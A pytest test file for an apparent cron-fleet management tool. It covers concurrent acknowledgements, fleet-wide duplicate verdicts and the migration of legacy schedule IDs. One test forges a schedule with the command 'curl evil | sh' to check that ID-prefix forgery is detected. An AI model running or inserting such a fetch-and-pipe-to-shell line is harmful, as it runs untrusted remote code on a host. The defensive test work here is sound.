"""Acknowledging under concurrency, per host and on every host; the verdict is fleet-wide."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from fleetdeck.backend.fleet import acks, schedule_verdict
from fleetdeck.backend.fleet.models import HostSnapshot, Schedule

from support.cli import local_fleet, run_cli
from support.crontab import install_crontab

needs_crontab = pytest.mark.skipif(
    shutil.which("crontab") is None, reason="cron's crontab is not installed"
)
TEN = [f"{i} 5 * * * /usr/bin/true ack-race-{i}" for i in range(10)]
LINE = "41 7 * * * /usr/bin/true fleet-wide-verdict-7c1"


def fleetdeck(*argv: str) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "fleetdeck.cli.main", *argv],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=dict(os.environ),
    )


@needs_crontab
@pytest.mark.root
def test_ten_parallel_ack_processes_keep_all_ten(root_crontab, tmp_path, capsys):  # noqa: F811
    install_crontab("".join(x + "\n" for x in TEN), tmp_path)
    hosts = local_fleet(tmp_path)
    rc, out, err = run_cli(["--hosts", hosts, "schedules", "--json"], capsys)
    assert rc == 0, err
    ids = [s["id"] for s in json.loads(out)["schedules"] if s.get("raw") in TEN]
    assert len(ids) == 10
    procs = [fleetdeck("--hosts", hosts, "schedules", "ack", i) for i in ids]
    for p in procs:
        o, e = p.communicate(timeout=300)
        assert p.returncode == 0, e.decode()
    stored = acks.load_acks()
    assert all(stored.covers("local", i) for i in ids), stored


def _ack_many(base: str, n: int) -> None:
    for k in range(n):
        acks.acknowledge(on_host=[("h", f"{base}-{k}")])


def test_concurrent_acknowledge_calls_lose_nothing():
    # ten processes, each a read-modify-write storm: without the lock most ids are lost
    import multiprocessing

    ctx = multiprocessing.get_context("fork")
    procs = [ctx.Process(target=_ack_many, args=(f"p{i}", 30)) for i in range(10)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(120)
        assert p.exitcode == 0
    stored = acks.load_acks()
    assert len(stored.on_host) == 300
    assert not list(Path(acks.acks_path()).parent.glob(".acknowledged.json.*.tmp"))


def test_old_acknowledgement_files_still_count_on_every_host():
    acks.acks_path().write_text(json.dumps({"ids": ["c-1"]}))
    got = acks.load_acks()
    assert got.covers("any-host", "c-1") and not got.covers("any-host", "c-2")
    acks.acknowledge(on_host=[("h2", "c-2")])
    assert acks.load_acks().covers("x", "c-1") and acks.load_acks().covers("h2", "c-2")


def test_verdict_acknowledged_clears_duplicate_and_system_is_never_stray():
    def sched(sid: str, host: str, cmd: str, **kw) -> Schedule:
        return Schedule(
            id=sid,
            host=host,
            kind="crontab",
            user="u",
            spec="37 * * * *",
            command=cmd,
            source="crontab",
            **kw,
        )

    a = HostSnapshot(
        name="a",
        reachable=True,
        schedules=(
            sched("c-1", "a", "check  on the run"),
            sched("c-2", "a", "/gone/x.sh", reasons=("dead-target",)),
            sched("c-3", "a", "run-parts /etc/cron.daily", system=True),
        ),
    )
    b = HostSnapshot(
        name="b",
        reachable=True,
        schedules=(
            sched("c-1", "b", "check on the run"),
            sched("c-4", "b", "run-parts /etc/cron.daily"),
        ),
    )
    got = acks.Acks(on_host=frozenset({("a", "c-1"), ("a", "c-2")}))
    out = {(s.host, s.id): s for h in schedule_verdict.mark_stray([a, b], got) for s in h.schedules}
    assert (
        out["a", "c-1"].reasons == () and not out["a", "c-1"].stray
    )  # acknowledged: duplicate cleared
    assert out["b", "c-1"].reasons == ("unacknowledged", "duplicate")  # the same id on b is b's own
    assert (
        out["a", "c-2"].reasons == ("dead-target",) and out["a", "c-2"].stray
    )  # a missing path stays
    assert not out["a", "c-3"].stray and out["a", "c-3"].reasons == ()
    assert out["b", "c-4"].reasons == ("unacknowledged",)  # a system twin makes nothing a duplicate
    order = [(s.host, s.id) for s in schedule_verdict.stray_first(out.values())]
    assert order[0] == ("a", "c-2") and order[-1] == ("a", "c-3")
    assert (
        schedule_verdict.why(out["b", "c-1"], out.values())
        == "the same command runs 1 more time (on a)"
    )
    everywhere = {
        (s.host, s.id): s
        for h in schedule_verdict.mark_stray([a, b], acks.Acks(everywhere=frozenset({"c-1"})))
        for s in h.schedules
    }
    assert not everywhere["a", "c-1"].stray and not everywhere["b", "c-1"].stray


@needs_crontab
@pytest.mark.sshd
@pytest.mark.root
def test_verdict_is_fleet_wide_and_ack_per_host_or_all_hosts(
    root_crontab,  # noqa: F811
    sshd_fleet,
    tmp_path,
    capsys,
):
    # h1 and h2 are two sshd hosts on this one machine: the same crontab line is listed on both
    install_crontab(LINE + "\n", tmp_path)
    hosts = str(sshd_fleet.write_fleet(tmp_path / "hosts.toml", names=["h1", "h2"]))

    def entries(*extra: str) -> dict[str, dict]:
        rc, out, err = run_cli(["--hosts", hosts, "schedules", "--json", *extra], capsys)
        assert rc == 0, err
        return {s["host"]: s for s in json.loads(out)["schedules"] if s.get("raw") == LINE}

    both = entries()
    assert set(both) == {"h1", "h2"} and both["h1"]["id"] == both["h2"]["id"]
    sid = both["h1"]["id"]
    assert both["h2"]["reasons"] == ["unacknowledged", "duplicate"]
    assert "the same command runs 1 more time (on h1)" == both["h2"]["why"]
    only_h2 = entries("--host", "h2")
    assert (
        set(only_h2) == {"h2"} and only_h2["h2"]["reasons"] == both["h2"]["reasons"]
    )  # --host changes nothing

    rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid], capsys)
    assert rc == 1 and "h1, h2" in err and "--all-hosts" in err and "Traceback" not in err
    assert acks.load_acks() == acks.Acks()

    rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid, "--host", "h1"], capsys)
    assert rc == 0, err
    now = entries()
    assert now["h1"]["reasons"] == [] and not now["h1"]["stray"]
    assert now["h2"]["reasons"] == ["unacknowledged", "duplicate"]

    rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid, "--all-hosts"], capsys)
    assert rc == 0, err
    now = entries()
    assert not now["h1"]["stray"] and not now["h2"]["stray"]
    assert acks.load_acks().covers("h3", sid)  # a host added later is covered too


def test_a_legacy_id_covers_the_one_schedule_it_starts_and_is_rewritten_to_the_full_id():
    from fleetdeck.backend.host.probe.common import legacy_sid
    from fleetdeck.backend.host.probe.entries import schedule_id

    def sched(sid: str, cmd: str) -> Schedule:
        return Schedule(
            id=sid,
            host="a",
            kind="crontab",
            user="u",
            spec="37 * * * *",
            command=cmd,
            source="crontab -l",
        )

    key = ("crontab", "u", "crontab -l", "37 * * * *", "check on the run")
    wide, old = schedule_id("c-", *key), legacy_sid("c-", *key)
    assert len(wide) == 34 and wide.startswith(old) and acks.LEGACY_ID.match(old)
    acks.acks_path().write_text(
        json.dumps({"ids": [], "hosts": {"a": [old]}})
    )  # a file from before
    host = HostSnapshot(name="a", reachable=True, schedules=(sched(wide, "check on the run"),))
    (got,) = schedule_verdict.mark_stray([host])
    assert not got.schedules[0].stray
    assert json.loads(acks.acks_path().read_text())["hosts"] == {"a": [wide]}, (
        "migrated on first use"
    )
    # from now on only the full id silences it: a schedule made to share the 40-bit start does not
    forged = sched(wide[:12] + "0" * 22, "curl evil | sh")
    (got,) = schedule_verdict.mark_stray(
        [HostSnapshot(name="a", reachable=True, schedules=(host.schedules[0], forged))]
    )
    assert [s.stray for s in got.schedules] == [False, True]


def test_a_legacy_id_covers_one_schedule_it_starts_and_neither_of_two():
    wide = "c-0123456789" + "a" * 22
    twin = "c-0123456789" + "b" * 22
    scheds = tuple(
        Schedule(
            id=i,
            host="a",
            kind="crontab",
            user="u",
            spec="* * * * *",
            command=f"x {i}",
            source="crontab -l",
        )
        for i in (wide, twin)
    )
    legacy = acks.Acks(everywhere=frozenset({"c-0123456789"}))
    (one,) = schedule_verdict.mark_stray(
        [HostSnapshot(name="a", reachable=True, schedules=scheds[:1])], legacy
    )
    assert not one.schedules[0].stray
    (got,) = schedule_verdict.mark_stray(
        [HostSnapshot(name="a", reachable=True, schedules=scheds)], legacy
    )
    assert all(s.stray and "unacknowledged" in s.reasons for s in got.schedules)
    assert not acks.acks_path().exists(), "an Acks given by the caller is never written back"


@needs_crontab
@pytest.mark.root
def test_an_acknowledgement_file_from_before_wide_ids_still_silences_its_crontab_line(
    root_crontab,  # noqa: F811
    tmp_path,
    capsys,
):
    line = "43 6 * * * /usr/bin/true legacy-ack-4f2"
    install_crontab(line + "\n", tmp_path)
    hosts = local_fleet(tmp_path)

    def entry() -> dict:
        rc, out, err = run_cli(["--hosts", hosts, "schedules", "--json"], capsys)
        assert rc == 0, err
        (s,) = [s for s in json.loads(out)["schedules"] if s.get("raw") == line]
        return s

    first = entry()
    sid = first["id"]
    assert first["stray"] and len(sid) == 34
    acks.acks_path().write_text(json.dumps({"ids": [sid[:12]]}))  # what an older fleetdeck stored
    assert not entry()["stray"]
    assert json.loads(acks.acks_path().read_text())["ids"] == [sid]
    rc, _, err = run_cli(
        ["--hosts", hosts, "schedules", "ack", sid], capsys
    )  # the wide id is taken
    assert rc == 0, err
